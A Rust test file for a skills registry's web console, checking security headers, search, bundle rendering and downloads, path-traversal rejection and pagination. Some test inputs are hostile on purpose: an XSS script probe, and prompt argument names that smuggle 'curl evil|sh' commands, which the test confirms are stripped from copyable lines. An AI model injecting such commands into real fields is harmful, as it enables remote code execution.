//! Status, headers and content of pages.

use std::io::{Cursor, Read as _};

use skills_agent_skills::Bundle;
use skills_core::{Layer, PromptArgument, PromptDefinition};
use skills_http::Access;
use skills_testkit::Request;

use crate::{
    browser::{Browser, assert_harmless, tags, text},
    test_console::{Credentials, TOKEN, TestConsole},
};

#[test]
fn the_front_page_is_for_clients_that_name_html() {
    let console = TestConsole::open();
    let mut browser = console.browser();
    let page = browser.get("/");
    assert_eq!(
        (page.status, page.header("content-type").unwrap().as_str()),
        (200, "text/html; charset=utf-8")
    );
    assert_eq!(page.header("vary").as_deref(), Some("accept"));
    for request in [
        Request::get("/"),
        Request::get("/").header("Accept", "*/*"),
        Request::new("POST", "/").header("Accept", "text/html"),
        Request::get("/")
            .header("Accept", "text/html")
            .header("Upgrade", "websocket")
            .header("Connection", "Upgrade"),
    ] {
        let answer = request.send(&console.address);
        assert_eq!((answer.status, answer.header("set-cookie")), (404, None));
        assert_eq!(answer.json()["error"]["code"], "not_found");
    }
}

#[test]
fn every_page_has_the_headers_of_a_page() {
    let console = TestConsole::open();
    console.register("weather", "# Weather\n\nForecasts.");
    let mut browser = console.browser();
    for path in [
        "/",
        "/ui",
        "/ui?view=table",
        "/ui/skills/weather",
        "/ui/skills/weather?tab=files",
        "/ui/skills/weather?tab=install",
        "/ui/skills/weather?tab=trust",
        "/ui/skills/weather?tab=explain",
        "/ui/publish",
        "/ui/live",
        "/ui/overview",
        "/ui/people",
        "/ui/people/log",
        "/ui/sign-in",
    ] {
        let answer = browser.get(path);
        assert_eq!(answer.status, 200, "{path}: {}", text(&answer));
        let header = |name: &str| answer.header(name).unwrap_or_default();
        assert_eq!(
            header("content-security-policy"),
            "default-src 'self'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'; object-src 'none'"
        );
        assert_eq!(header("x-content-type-options"), "nosniff");
        assert_eq!(header("referrer-policy"), "same-origin");
        assert_eq!(header("cache-control"), "no-store");
        assert_eq!(header("access-control-allow-origin"), "");
        assert_harmless(&text(&answer), path);
        let page = text(&answer);
        assert_eq!(page.matches("<h1").count(), 1, "{path}");
        assert!(
            tags(&page)
                .iter()
                .any(|tag| tag.name == "html" && tag.attributes == [("lang".into(), "en".into())])
        );
        assert!(page.contains("This machine"), "{path} says who you are");
        let problems = page.matches("writes are not possible").count();
        assert_eq!(problems, 1, "{path} says what does not work");
    }
}

#[test]
fn assets_are_cached_for_ever_and_named_by_their_content() {
    let console = TestConsole::open();
    let page = console.browser().open("/ui");
    let addresses = tags(&page).into_iter().flat_map(|tag| tag.attributes).map(|(_, value)| value);
    let assets: Vec<String> = addresses.filter(|value| value.starts_with("/ui/assets/")).collect();
    assert_eq!(assets.len(), 3, "{assets:?}");
    for asset in assets {
        let answer = Request::get(&asset).send(&console.address);
        assert_eq!(answer.status, 200, "{asset}");
        assert_eq!(answer.header("cache-control").unwrap(), "public, max-age=31536000, immutable");
        assert_eq!(answer.header("set-cookie"), None, "{asset}");
    }
    let other = Request::get("/ui/assets/console-000000000000.css").send(&console.address);
    assert_eq!(other.status, 404);
}

#[test]
fn an_empty_registry_shows_three_ways_to_add_the_first_skill() {
    let console = TestConsole::open();
    let page = console.browser().open("/");
    for way in ["skills add ./my-skills", "skills add owner/repo", "/ui/publish"] {
        assert!(page.contains(way), "{way}");
    }
}

#[test]
fn skills_are_searched_and_filtered() {
    let console = TestConsole::open();
    console.register("weather", "# Weather\n\nForecasts for a city.");
    console.register(
        "pdf",
        "---\nname: pdf\ndescription: Documents.\nmetadata:\n  tags: office paper\n---\n# PDF",
    );
    console.register_in(&Layer::Market, "games", "# Games\n\nPlay.");
    let definition = PromptDefinition {
        description: "Plan a day".to_owned(),
        arguments: vec![],
        function_id: "a::b".to_owned(),
    };
    console.register_prompt("plan", definition);
    let mut browser = console.browser();
    let mut found = |query: &str| -> Vec<String> {
        let page = browser.open(&format!("/ui{query}"));
        let links = tags(&page)
            .into_iter()
            .filter(|tag| tag.attributes.contains(&("class".into(), "entry".into())));
        let href = |attributes: Vec<(String, String)>| {
            attributes.into_iter().find(|(name, _)| name == "href").unwrap().1
        };
        links.map(|tag| href(tag.attributes)).collect()
    };
    assert_eq!(
        found(""),
        ["/ui/skills/games", "/ui/skills/pdf", "/ui/skills/weather", "/ui/prompts/plan"]
    );
    assert_eq!(found("?q=forecasts"), ["/ui/skills/weather"]);
    assert_eq!(found("?tier=market"), ["/ui/skills/games"]);
    assert_eq!(found("?kind=prompt"), ["/ui/prompts/plan"]);
    assert_eq!(found("?tag=office"), ["/ui/skills/pdf"]);
    assert_eq!(found("?q=day&view=table"), ["/ui/prompts/plan"]);
    assert!(found("?tier=live").is_empty() && found("?q=nothing-like-it").is_empty());
    let page = browser.open("/ui?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E");
    assert_harmless(&page, "query");
}

#[test]
fn a_bundle_is_shown_file_by_file_and_downloaded() {
    let console = TestConsole::open();
    let files = vec![
        ("scripts/run.sh".parse().unwrap(), bytes::Bytes::from_static(b"#!/bin/sh\necho <b>\n")),
        ("img/a.png".parse().unwrap(), bytes::Bytes::from_static(b"\x89PNG\r\n\x1a\n\0")),
    ];
    let bundle =
        Bundle::new("# A\n\n![x](img/a.png) [y](scripts/run.sh)".to_owned(), files).unwrap();
    console.register_bundle(&Layer::Official, "a", bundle);
    let mut browser = console.browser();
    let page = browser.open("/ui/skills/a");
    assert!(page.contains("src=\"/ui/raw/a/img/a.png\""), "{page}");
    let source = browser.open("/ui/skills/a?tab=files&path=scripts/run.sh");
    assert!(source.contains("id=\"L2\"") && source.contains("echo &lt;b&gt;"), "{source}");
    let raw = browser.get("/ui/raw/a/scripts/run.sh");
    assert_eq!(raw.header("content-type").unwrap(), "text/plain; charset=utf-8");
    assert!(raw.header("content-security-policy").unwrap().contains("sandbox"));
    assert_eq!(browser.get("/ui/raw/a/img/a.png").header("content-type").unwrap(), "image/png");
    let zip = browser.get("/ui/zip/a.zip");
    assert_eq!(zip.header("content-type").unwrap(), "application/zip");
    let mut archive = zip::ZipArchive::new(Cursor::new(zip.unchunked())).unwrap();
    let files: Vec<_> = (0..archive.len())
        .map(|at| {
            let mut file = archive.by_index(at).unwrap();
            let mut bytes = Vec::new();
            file.read_to_end(&mut bytes).unwrap();
            (file.name().unwrap().into_owned(), file.unix_mode().unwrap() & 0o777, bytes.len())
        })
        .collect();
    let expected =
        [("a/SKILL.md", 0o644, 40), ("a/img/a.png", 0o644, 9), ("a/scripts/run.sh", 0o755, 19)];
    assert_eq!(files, expected.map(|(path, mode, size)| (path.to_owned(), mode, size)));
    assert_eq!(zip.header("content-disposition").unwrap(), "attachment; filename=\"a.zip\"");
    for path in [
        "/ui/raw/a/%2e%2e/x",
        "/ui/raw/a/none",
        "/ui/zip/a",
        "/ui/zip/none.zip",
        "/ui/skills/a?tab=files&path=none",
        "/ui/skills/a?tab=none",
    ] {
        assert_eq!(browser.get(path).status, 404, "{path}");
    }
}

#[test]
fn unknown_addresses_are_pages_too() {
    let console = TestConsole::open();
    let mut browser = console.browser();
    for path in
        ["/ui/nothing", "/ui/skills/none", "/ui/prompts/none", "/ui/skills/", "/ui/skills/%FF"]
    {
        let answer = browser.get(path);
        let status = answer.status;
        assert!(status == 404 || status == 400 || status == 422, "{path}: {status}");
    }
    let page = text(&browser.get("/ui/skills/none"));
    assert!(page.contains("<code>not_found</code>") && page.contains("role=\"alert\""), "{page}");
}

#[test]
fn the_overview_shows_problems_in_plain_words() {
    let console = TestConsole::open();
    let page = console.browser().open("/ui/overview");
    assert!(page.contains("writes are not possible") && page.contains("9.9.9"), "{page}");
    assert!(page.contains("Next: free some disk."), "{page}");
    assert!(page.contains("class=\"swatch series-0\"></span>mcp</li>"), "{page}");
    assert!(page.contains("<figure class=\"plot\""), "{page}");
}

#[test]
fn the_address_of_the_server_is_the_one_that_the_browser_used() {
    let console = TestConsole::with_access(
        Credentials { token: true, ..Credentials::default() },
        Access { hosts: vec!["skills.example".to_owned()], ..Access::default() },
    );
    console.register("weather", "# Weather");
    let mut browser = console.signed_in(TOKEN);
    let install = |request: Request, browser: &mut Browser| text(&browser.send(request));
    let request = || Request::get("/ui/skills/weather?tab=install").header("Accept", "text/html");
    let page = install(request(), &mut browser);
    let http = format!("http://{}/mcp", console.address);
    assert!(page.contains(&http), "{page}");
    // The browser is on another machine, as far as the server knows: nothing of this machine is of use there.
    assert!(page.contains(&format!("--transport http skills {http}")), "{page}");
    assert!(!page.contains("claude_desktop_config"), "{page}");
    let local = TestConsole::open();
    local.register("weather", "# Weather");
    let page = local.browser().open("/ui/skills/weather?tab=install");
    assert!(page.contains("claude_desktop_config") && !page.contains("--transport http"), "{page}");
    assert!(page.contains("skills export weather ./weather"), "{page}");
}

#[test]
fn the_address_is_https_where_the_browser_says_so() {
    let console = TestConsole::with_access(
        Credentials::default(),
        Access { hosts: vec!["skills.example".to_owned()], ..Access::default() },
    );
    for (site, scheme) in [(None, "http"), (Some("none"), "https")] {
        let mut request = Request::get("/ui/sign-in").header("Accept", "text/html");
        request = request.header("Host", "skills.example");
        if let Some(site) = site {
            request = request.header("Sec-Fetch-Site", site);
        }
        let page = text(&request.send(&console.address));
        assert!(page.contains(&format!("{scheme}://skills.example/mcp")), "{page}");
    }
}

#[test]
fn an_address_with_a_path_of_a_bundle_leads_to_the_file() {
    let console = TestConsole::open();
    let files = vec![("docs/a b.md".parse().unwrap(), bytes::Bytes::from_static(b"# B"))];
    let bundle = Bundle::new("# A\n\n[x](iii://a/docs/a%20b.md)".to_owned(), files).unwrap();
    console.register_bundle(&Layer::Official, "a", bundle);
    let mut browser = console.browser();
    let page = browser.open("/ui/skills/a");
    assert!(page.contains("href=\"/ui/skills/a/docs/a%20b.md\""), "{page}");
    let answer = browser.get("/ui/skills/a/docs/a%20b.md");
    let location = answer.header("location").unwrap();
    assert_eq!(location, "/ui/skills/a?tab=files&path=docs%2Fa+b.md");
    browser.open(&location);
    assert_eq!(browser.get("/ui/skills/a/docs/none.md").status, 404);
    assert_eq!(browser.get("/ui/").header("location").as_deref(), Some("/ui"));
}

#[test]
fn lines_to_copy_run_nothing_else() {
    let console = TestConsole::open();
    let argument =
        |name: &str| PromptArgument { name: name.to_owned(), description: None, required: false };
    let definition = PromptDefinition {
        description: "Plan".to_owned(),
        arguments: vec![argument("city"), argument("x; curl evil|sh #"), argument("a\ncurl evil")],
        function_id: "a::b".to_owned(),
    };
    console.register_prompt("plan", definition);
    let page = console.browser().open("/ui/prompts/plan");
    let lines: Vec<&str> =
        page.split("<code>").skip(1).filter_map(|it| it.split('<').next()).collect();
    let command = "skills prompt get plan city=VALUE ARGUMENT=VALUE ARGUMENT=VALUE";
    assert!(lines.contains(&command), "{lines:?}");
    assert!(lines.contains(&"/mcp__skills__plan {city} {ARGUMENT} {ARGUMENT}"), "{lines:?}");
    assert!(!lines.iter().any(|line| line.contains("curl")), "{lines:?}");
}

#[test]
fn a_page_beyond_the_last_one_is_the_last_one() {
    let console = TestConsole::open();
    for number in 0..50 {
        console.register(&format!("s{number:03}"), "# Report\n\nA report.");
    }
    let mut browser = console.browser();
    for path in ["/ui?page=9", "/ui?q=report&page=9"] {
        let page = browser.open(path);
        assert!(page.contains("49–50 of 50"), "{path}: {page}");
    }
}
